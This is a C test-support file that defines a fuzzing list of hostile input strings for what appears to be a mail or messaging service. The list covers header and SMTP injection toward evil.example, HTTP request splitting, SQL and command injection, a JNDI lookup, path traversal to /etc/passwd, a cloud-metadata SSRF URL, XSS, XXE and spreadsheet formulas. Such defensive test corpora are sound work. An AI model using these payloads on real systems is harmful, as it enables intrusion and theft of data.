#include "tests/support/hostile.h"

#include "common/cleanup.h"

#define X10 "xxxxxxxxxx"
#define X100 X10 X10 X10 X10 X10 X10 X10 X10 X10 X10
#define X1000 X100 X100 X100 X100 X100 X100 X100 X100 X100 X100
#define E10 "\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9"
#define E100 E10 E10 E10 E10 E10 E10 E10 E10 E10 E10

#define CONTROLS /* line breaks, folding, protocols that live on lines */ \
	"a\r\nBcc: x@evil.example", "a\nBcc: x@evil.example", "a\rBcc: x@evil.example", "\r\n", "\n", "\r", "\r\n\r\n", "a\r\n\r\n<b>body</b>", \
	"a\r\n Bcc: x", "a\r\n\tBcc: x", "a\n Bcc: x", "a\r\n.\r\nMAIL FROM:<x@evil.example>", "a\n.\nRCPT TO:<x@evil.example>", ".\r\n", \
	"a\r\nContent-Length: 0\r\n\r\n", "a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "a\r\nHost: evil.example", "a\r\nSet-Cookie: x=y", \
	"a\r\nContent-Type: text/html", "a\r\nX-Loft: y\r\n\r\nGET / HTTP/1.1", "\r\n--", "a\r\n--=_m_01JX9000000000000000000042--", \
	"a\r\nReply-To: <x@evil.example>", "a\x0b" "Bcc: x", "a\x0c" "Bcc: x", "a\x01" "b", "a\x08" "b", "a\x1b[2J", "a\x1b]0;x\x07", "a\x7f" "b", "a\x1f" "b", \
	"a\x1c" "b", "a\x1d" "b", "a\x1e" "b", "a\x0e" "b", "a\x04"

const char *const hostile_words[] = {
	CONTROLS,
	/* line ends that are none */
	"a\tb", "\t", "a\xc2\x85" "Bcc: x", "a\xe2\x80\xa8" "Bcc: x@evil.example", "a\xe2\x80\xa9" "Bcc: x", "\xe2\x80\xa8", "a\xc4\x8a" "Bcc: x",
	"a\xe5\x98\x8a\xe5\x98\x8d" "Bcc: x", "a\xc2\x80" "b", "a\xc2\x9b" "2J", "a\xc2\xad" "b",
	/* escaped */
	"%0d%0aBcc:x@evil.example", "%0D%0A%0D%0A", "%250d%250aBcc:x", "%00", "%", "%%", "%s%s%s%n", "%1$n", "%zz", "%u000d", "\\r\\nBcc: x", "\\u000d\\u000aBcc: x",
	"\\ud800", "\\udfff\\ud800", "\\u0000", "\\x00", "\\0", "\\n", "&#13;&#10;Bcc: x", "&#x0d;", "=0D=0ABcc: x", "=\\r\\n", "=20", "=?utf-8?Q?=0d=0aBcc:_x?=",
	"=?UTF-8?B?DQpCY2M6IHg=?=", "=?utf-8?B?Zm9v?= =?utf-8?B?YmFy?=", "=?=?==?=", "?=", "=?", "utf-8''%0d%0aBcc%3a x",
	/* quotes, brackets and commas */
	"\"", "\"\"", "\\", "\\\\", "\\\"", "'", "''", "' OR '1'='1", "`", "``id``", "(comment)", "a\" <x@evil.example>, \"b", "<x@evil.example>",
	"x <x@evil.example>", "x@evil.example, y@evil.example", "x@evil.example;y@evil.example", "a,b;c:d", "undisclosed:;", "a\"; filename=\"x.exe", "\"b\r", "a\\",
	"Bcc: x@evil.example", "Bcc:", "To: x", "X-A: y",
	/* JSON */
	"\",\"to\":[\"x@evil.example\"]", "\"}],\"x\":[{\"y\":\"", "\"}", "{\"a\":1}", "[1,2]", "{}", "[]", "null", "true", "1e309", "-0", "9007199254740993",
	"NaN", "\"__proto__\":{}", "/* x */", "// x",
	/* templates */
	"{", "}", "{{", "}}", "{{{text}}}", "{{#text}}{{/text}}", "{{=<% %>=}}", "{config.api_key}", "{config.token}", "{token}", "{to.name}", "{item.name}", "{{config.api_key}}",
	"${x}", "${jndi:ldap://evil.example/a}", "$(id)", "<%= 7*7 %>", "#{7*7}", "%recipient.name%", "%{x}", "*|FNAME|*", "-x-", "[[x]]", "{$opt}", "{\"$opt\":\"{text}\"}",
	/* forms, URLs, paths */
	"&Bcc=x&To=y", "a&b=c", "=", "&", "&&", "+", "a+b", "a b", ";a=b", "?x=y#z", "#", "a/../../b", "../", "..", ".", "/etc/passwd", "..\\..\\x", "//evil.example/",
	"\\\\evil\\share", "http://169.254.169.254/latest/meta-data/", "https://evil.example@good.example/", "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd",
	"%2e%2e%2f", "..%c0%af", "CON", "a:b", "~root", "*", "-rf", "--", "---", "------", "--boundary--", "-", "|id", ";id", "&& id", "> x", "a\xc2\xa0" "b",
	/* markup, TwiML, XML, spreadsheets */
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "</Say><Dial>+1900</Dial><Say>", "<Response/>", "<Hangup/>", "]]>", "<![CDATA[x]]>",
	"<!--", "-->", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>", "&y;", "&lt;", "&#0;", "&amp;amp;", "<?xml version=\"1.0\"?>", "=cmd|' /C calc'!A0", "@SUM(1)",
	"</title>", "<a href=\"//evil.example\">x</a>", "<br>", "&nbsp;",
	/* letters that turn around, hide, pile up or look like others */
	"\xe2\x80\xae" "cba", "a\xe2\x80\xad" "b\xe2\x80\xac", "\xe2\x81\xa6" "x\xe2\x81\xa9", "\xe2\x80\x8f" "x", "\xef\xbb\xbf" "a", "a\xe2\x80\x8b" "b", "\xe2\x80\x8d", "\xe2\x81\xa0", "\xf3\xa0\x81\x81",
	"\xcc\x81\xcc\x81\xcc\x81\xcc\x81", "Z\xcc\xb4\xcd\x95\xcc\x9e", "\xd0\xb0" "cme", "\xef\xbc\x9c" "script\xef\xbc\x9e", "\xef\xbc\x82", "\xca\xb9", "\xef\xbf\xbd", "\xef\xbf\xbe",
	"\xef\xb7\x90", "\xf4\x8f\xbf\xbf", "\xf0\x9f\x98\x80", "\xf0\x9f\x87\xab\xf0\x9f\x87\xb7", "\xc3\xa9\xc3\xa8", "e\xcc\x81", "\xe4\xb8\xad\xe6\x96\x87", "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d", "\xd8\xb3\xd9\x84",
	"\xf0\x90\x8d\x88", "\xc7\x85", "\xef\xac\x81", "\xe2\x82\xac", "^{}\\[~]|",
	/* blanks */
	" ", "  a  ", " a", "a ", "\xe2\x80\x83", "\xe3\x80\x80",
	/* long */
	X100 X100, X1000, X1000 X1000 X100, X1000 X1000 X1000 X1000 X1000, E100, E10 E10 E10 "x", E100 E100 E100 E100 E100, X100 "\xf0\x9f\x98\x80", "a " X1000 " b",
};
const size_t hostile_count = ARRAY_LEN(hostile_words);

const size_t hostile_controls = sizeof((const char *const[]){ CONTROLS }) / sizeof(char *);
